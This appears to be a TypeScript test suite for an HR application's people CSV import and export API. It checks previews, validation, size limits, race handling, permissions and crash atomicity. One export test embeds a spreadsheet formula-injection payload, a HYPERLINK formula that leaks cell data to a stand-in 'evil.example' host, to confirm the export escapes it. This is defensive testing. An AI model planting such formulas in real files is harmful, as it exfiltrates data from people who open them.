import { type ChildProcess, spawn } from "node:child_process";
import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import { setTimeout as sleep } from "node:timers/promises";
import { parse } from "csv-parse/sync";
import { sql } from "drizzle-orm";
import { afterAll, describe, expect, it } from "vitest";
import { makeUser, signInCookie } from "../../../test/factories.js";
import { createTestDeps, send, testApp } from "../../../test/helpers.js";
import { verifyAuditTrail } from "../record/record.service.js";

const deps = await createTestDeps();
const app = testApp(deps);
const db = deps.database.db;
const admin = await makeUser(deps, {
  name: "Ada Admin",
  email: "ada@example.com",
  roles: ["admin"],
});
const adminCookie = await signInCookie(app, admin.email, admin.password);

async function counts() {
  const result = await db.execute<{ people: number; audit: number; updated: string | null }>(sql`
    SELECT (SELECT count(*)::int FROM people) AS people,
           (SELECT count(*)::int FROM audit_events) AS audit,
           (SELECT max(updated_at)::text FROM people) AS updated`);
  return result.rows[0]!;
}

const preview = (csv: string, cookie = adminCookie) =>
  send(app, "/api/v1/imports/people/preview", { body: { csv }, cookie });
const commit = (csv: string, cookie = adminCookie) =>
  send(app, "/api/v1/imports/people/commit", { body: { csv }, cookie });

const orgCsv = [
  "employee_id,email,name,title,department,location,hire_date,manager_email",
  "S1,sofia@example.com,Sofia Boss,CEO,Leadership,Berlin,2018-01-01,",
  "S2,max@example.com,Max Lead,Head of Engineering,Engineering,Berlin,2019-03-01,sofia@example.com",
  "S3,lena@example.com,Lena Dev,Engineer,Engineering,Hamburg,2021-06-15,max@example.com",
  "S4,omar@example.com,Omar Dev,Engineer,Engineering,Remote,2022-09-01,max@example.com",
].join("\n");

async function personByEmail(email: string) {
  const result = await db.execute<{
    id: string;
    manager_email: string | null;
    version: number;
  }>(sql`
    SELECT p.id, m.email AS manager_email, p.version
    FROM people p LEFT JOIN people m ON m.id = p.manager_id WHERE p.email = ${email}`);
  return result.rows[0];
}

describe("importing the organisation from a CSV (as an admin)", () => {
  it("previews what it would do and writes nothing", async () => {
    const before = await counts();
    const res = await preview(orgCsv);
    expect(res.status).toBe(200);
    const body = await res.json();
    expect(body.summary).toEqual({ create: 4, update: 0, unchanged: 0, problems: 0 });
    expect(body.rows.map((r: { line: number; action: string }) => [r.line, r.action])).toEqual([
      [2, "create"],
      [3, "create"],
      [4, "create"],
      [5, "create"],
    ]);
    expect(await counts()).toEqual(before);
  });

  it("creates everyone, with their managers, on commit", async () => {
    const before = await counts();
    const res = await commit(orgCsv);
    expect(res.status).toBe(200);
    expect(await res.json()).toEqual({ create: 4, update: 0, unchanged: 0, problems: 0 });
    expect((await counts()).people).toBe(before.people + 4);
    expect((await personByEmail("lena@example.com"))?.manager_email).toBe("max@example.com");
    expect((await personByEmail("max@example.com"))?.manager_email).toBe("sofia@example.com");
    expect((await personByEmail("sofia@example.com"))?.manager_email).toBeNull();
    // One audit event per person, and one for the import.
    const events = await db.execute<{ action: string; n: number }>(sql`
      SELECT action, count(*)::int AS n FROM audit_events
      WHERE seq > ${before.audit} GROUP BY action ORDER BY action`);
    expect(events.rows).toEqual([
      { action: "org.people_imported", n: 1 },
      { action: "person.created", n: 4 },
    ]);
  });

  it("finds nothing to change when the same file is imported again, and changes no one", async () => {
    const before = await counts();
    const check = await preview(orgCsv);
    expect((await check.json()).summary).toEqual({
      create: 0,
      update: 0,
      unchanged: 4,
      problems: 0,
    });
    const res = await commit(orgCsv);
    expect(await res.json()).toEqual({ create: 0, update: 0, unchanged: 4, problems: 0 });
    const after = await counts();
    expect(after.people).toBe(before.people);
    expect(after.updated).toBe(before.updated);
    const events = await db.execute<{ action: string }>(
      sql`SELECT action FROM audit_events WHERE seq > ${before.audit}`,
    );
    expect(events.rows).toEqual([{ action: "org.people_imported" }]);
  });

  it("updates a changed person, and keeps managers when the file has no manager column", async () => {
    const version = (await personByEmail("omar@example.com"))!.version;
    const res = await commit("email,name,title\nomar@example.com,Omar Dev,Senior Engineer\n");
    expect(await res.json()).toEqual({ create: 0, update: 1, unchanged: 0, problems: 0 });
    const omar = await personByEmail("omar@example.com");
    expect(omar?.manager_email).toBe("max@example.com");
    expect(omar?.version).toBe(version + 1);
  });

  it("imports nothing from a file with one bad row, and names each problem's line", async () => {
    const before = await counts();
    const csv = [
      "email,name,manager_email,hire_date",
      "new.one@example.com,New One,sofia@example.com,2024-01-01",
      "new.two@example.com,New Two,nobody@example.com,2024-01-01",
      "new.three@example.com,New Three,sofia@example.com,2024-13-01",
    ].join("\n");
    const res = await commit(csv);
    expect(res.status).toBe(400);
    const { error } = await res.json();
    expect(error.code).toBe("import.invalid");
    expect(error.message).toMatch(/2 problems; nothing was imported/);
    expect(error.details).toEqual([
      { line: 3, field: "manager_email", message: expect.stringContaining("nobody@example.com") },
      { line: 4, field: "hire_date", message: expect.stringContaining("2024-13-01") },
    ]);
    expect(await counts()).toEqual(before);
  });

  it.each([
    {
      what: "duplicate emails",
      csv: "email,name\nd@example.com,D One\nd@example.com,D Two\n",
      line: 3,
    },
    { what: "a missing column", csv: "name,title\nNo Email,Engineer\n", line: 1 },
    {
      what: "an unclosed quote",
      csv: 'email,name\nq@example.com,"Quinn\nr@example.com,Rae\n',
      line: 2,
    },
    {
      what: "a manager cycle",
      csv: "email,name,manager_email\nc1@example.com,C One,c2@example.com\nc2@example.com,C Two,c1@example.com\n",
      line: 2,
    },
  ])("refuses $what with 400, a line number, and no change", async ({ csv, line }) => {
    const before = await counts();
    const res = await commit(csv);
    expect(res.status).toBe(400);
    const { error } = await res.json();
    expect(error.code).toBe("import.invalid");
    expect(error.details[0].line).toBe(line);
    expect(await counts()).toEqual(before);
  });

  it("answers a 20 MB upload with 413 and the error body, and writes nothing", async () => {
    const before = await counts();
    const row = "big@example.com,Big Row,Padding padding padding padding padding padding\n";
    const csv = `email,name,title\n${row.repeat(Math.ceil((20 * 1024 * 1024) / row.length))}`;
    expect(csv.length).toBeGreaterThanOrEqual(20 * 1024 * 1024);
    for (const route of ["preview", "commit"]) {
      const res = await send(app, `/api/v1/imports/people/${route}`, {
        body: { csv },
        cookie: adminCookie,
      });
      expect(res.status).toBe(413);
      expect((await res.json()).error).toEqual({
        code: "request.too_large",
        message: expect.stringMatching(/too large/),
      });
    }
    expect(await counts()).toEqual(before);
  });

  it("exports a CSV whose formula-like cells cannot run in a spreadsheet", async () => {
    const evil = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")';
    const csv = `email,name,title,department\nformula@example.com,"${evil.replace(/"/g, '""')}",+SUM(1;2),@cmd\n`;
    expect((await commit(csv)).status).toBe(200);
    const res = await send(app, "/api/v1/exports/people.csv", { cookie: adminCookie });
    expect(res.status).toBe(200);
    expect(res.headers.get("content-type")).toMatch(/^text\/csv/);
    expect(res.headers.get("content-disposition")).toMatch(/attachment; filename="people.csv"/);
    const rows = parse(await res.text(), { columns: true }) as Record<string, string>[];
    const exported = rows.find((r) => r.email === "formula@example.com")!;
    expect(exported.name).toBe(`'${evil}`);
    expect(exported.title).toBe("'+SUM(1;2)");
    expect(exported.department).toBe("'@cmd");
    expect(rows.find((r) => r.email === "lena@example.com")).toMatchObject({
      name: "Lena Dev",
      manager_email: "max@example.com",
      hire_date: "2021-06-15",
    });
  });
});

describe("an import racing another writer", () => {
  it("answers 409 and imports nothing when one of its people is added meanwhile", async () => {
    const before = await counts();
    const other = await deps.database.pool.connect();
    try {
      await other.query("BEGIN");
      await other.query("INSERT INTO people (email, name) VALUES ('race@example.com', 'Racer')");
      const pending = commit("email,name\nfirst.racer@example.com,First\nrace@example.com,Race\n");
      // The import planned without the uncommitted row and now waits on it at the unique index.
      for (;;) {
        const waiting = await db.execute(sql`
          SELECT 1 FROM pg_stat_activity
          WHERE datname = current_database() AND wait_event_type = 'Lock'`);
        if (waiting.rows.length) break;
        await sleep(5);
      }
      await other.query("COMMIT");
      const res = await pending;
      expect(res.status).toBe(409);
      expect((await res.json()).error.code).toBe("import.conflict");
    } finally {
      other.release();
    }
    expect((await counts()).people).toBe(before.people + 1);
  });
});

describe("export and import", () => {
  it("round-trip: importing the exported file changes no one, formula-like cells included", async () => {
    const exported = await send(app, "/api/v1/exports/people.csv", { cookie: adminCookie });
    const csv = await exported.text();
    expect(csv).toContain("'=HYPERLINK");
    const res = await preview(csv);
    const { summary } = await res.json();
    expect(summary).toEqual({
      create: 0,
      update: 0,
      unchanged: (await counts()).people,
      problems: 0,
    });
  });
});

describe("who may import", () => {
  const csv = "email,name\nsneaky@example.com,Sneaky New\n";

  it.each([
    {
      who: "an HR partner scoped to one department",
      overrides: { roles: ["hr"], hrScopeDepartments: ["Engineering"] },
    },
    { who: "a plain employee", overrides: {} },
    { who: "a manager", overrides: { name: "Mia Manager" } },
  ])("$who cannot preview, commit or export (4xx, nothing written)", async ({ overrides }) => {
    const user = await makeUser(deps, overrides);
    if (overrides.name === "Mia Manager") await makeUser(deps, { managerId: user.id });
    const cookie = await signInCookie(app, user.email, user.password);
    const before = await counts();
    for (const res of [
      await preview(csv, cookie),
      await commit(csv, cookie),
      await send(app, "/api/v1/exports/people.csv", { cookie }),
    ]) {
      expect(res.status).toBeGreaterThanOrEqual(400);
      expect(res.status).toBeLessThan(500);
    }
    // Signing in writes its own audit event; the import wrote nothing.
    expect((await counts()).people).toBe(before.people);
    expect((await counts()).audit).toBe(before.audit);
  });

  it("organisation-wide HR can import people but cannot grant roles or HR scope", async () => {
    const hr = await makeUser(deps, { roles: ["hr"], hrScopeAll: true });
    const cookie = await signInCookie(app, hr.email, hr.password);
    const ok = await commit("email,name,department\nhr.hire@example.com,HR Hire,Sales\n", cookie);
    expect(ok.status).toBe(200);
    const before = await counts();
    const res = await commit(`email,name,roles\n${hr.email},${hr.name},admin;hr\n`, cookie);
    expect(res.status).toBe(400);
    expect((await res.json()).error.details).toEqual([
      expect.objectContaining({
        line: 2,
        message: "Only an admin can grant or remove roles and HR scope.",
      }),
    ]);
    expect(await counts()).toEqual(before);
  });
});

// ---------- all or nothing, even when the process dies ----------

const ROWS = 3000;

function crashCsv(): string {
  const lines = ["employee_id,email,name,title,department,manager_employee_id"];
  for (let i = 0; i < ROWS; i++) {
    const manager = i === 0 ? "" : `K${Math.floor((i - 1) / 6)}`;
    lines.push(`K${i},k${i}@crash.example.com,Kim ${i},Engineer,Crash Dept ${i % 3},${manager}`);
  }
  return lines.join("\n");
}

describe("an import killed mid-way", () => {
  const dir = mkdtempSync(path.join(tmpdir(), "headway-crash-"));
  afterAll(() => rmSync(dir, { recursive: true, force: true }));
  const csvFile = path.join(dir, "people.csv");
  writeFileSync(csvFile, crashCsv());
  const appName = "headway-crash-child";
  const url = new URL(deps.databaseUrl);
  url.searchParams.set("application_name", appName);

  function startChild(): ChildProcess & { output: Promise<string> } {
    const child = spawn(
      process.execPath,
      ["--import", "tsx", path.resolve("test/import-crash-child.ts"), csvFile],
      {
        // A clean environment: vitest's own variables (BASE_URL=/, …) are not Headway's.
        env: {
          PATH: process.env.PATH,
          DATABASE_URL: url.toString(),
          HEADWAY_SECRET: deps.config.secret,
          HEADWAY_DATA_DIR: path.join(dir, "data"),
          LOG_LEVEL: "silent",
        },
        stdio: ["ignore", "pipe", "pipe"],
      },
    );
    let out = "";
    child.stdout!.on("data", (d) => (out += d));
    child.stderr!.on("data", (d) => (out += d));
    const output = new Promise<string>((resolve) => child.on("exit", () => resolve(out)));
    return Object.assign(child, { output });
  }

  /** The child's transaction, once it has written its first row. */
  async function childWrites(): Promise<boolean> {
    const r = await db.execute(sql`
      SELECT 1 FROM pg_stat_activity
      WHERE application_name = ${appName} AND backend_xid IS NOT NULL`);
    return r.rows.length > 0;
  }

  async function childGone(): Promise<boolean> {
    const r = await db.execute(
      sql`SELECT 1 FROM pg_stat_activity WHERE application_name = ${appName}`,
    );
    return r.rows.length === 0;
  }

  async function until(check: () => Promise<boolean>, what: string, limitMs = 60_000) {
    const end = Date.now() + limitMs;
    while (!(await check())) {
      if (Date.now() > end) throw new Error(`gave up waiting for ${what}`);
      await sleep(5);
    }
  }

  it.each([0, 25, 100, 300, 800])(
    "leaves the whole import or none of it when killed %i ms after it started writing",
    { timeout: 120_000 },
    async (delayMs) => {
      const before = await counts();
      const child = startChild();
      const exited = new Promise<void>((resolve) => child.on("exit", () => resolve()));
      let killedMidway = false;
      await until(
        async () => (await childWrites()) || child.exitCode !== null,
        "the import to start writing",
      );
      if (child.exitCode === null) {
        await sleep(delayMs);
        killedMidway = child.kill("SIGKILL");
      }
      await exited;
      // PostgreSQL rolls back the dead client's transaction once it notices the closed connection.
      await until(childGone, "the killed import's connection to close");
      const after = (await counts()).people;
      expect([before.people, before.people + ROWS]).toContain(after);
      if (killedMidway && after === before.people) crashedWithNothing += 1;
      expect(await verifyAuditTrail({ db, secret: deps.config.secret })).toMatchObject({
        ok: true,
      });
    },
  );

  let crashedWithNothing = 0;

  it("was killed mid-write at least once (so the cases above tested a real crash)", () => {
    expect(crashedWithNothing).toBeGreaterThan(0);
  });

  it("imports all of it when left alone", { timeout: 120_000 }, async () => {
    const before = await counts();
    const child = startChild();
    const output = await child.output;
    expect(child.exitCode, output).toBe(0);
    const imported = await db.execute<{ n: number }>(
      sql`SELECT count(*)::int AS n FROM people WHERE email LIKE '%@crash.example.com'`,
    );
    expect(imported.rows[0]!.n).toBe(ROWS);
    expect((await counts()).people - before.people).toBeLessThanOrEqual(ROWS);
    expect(await verifyAuditTrail({ db, secret: deps.config.secret })).toMatchObject({ ok: true });
  });
});
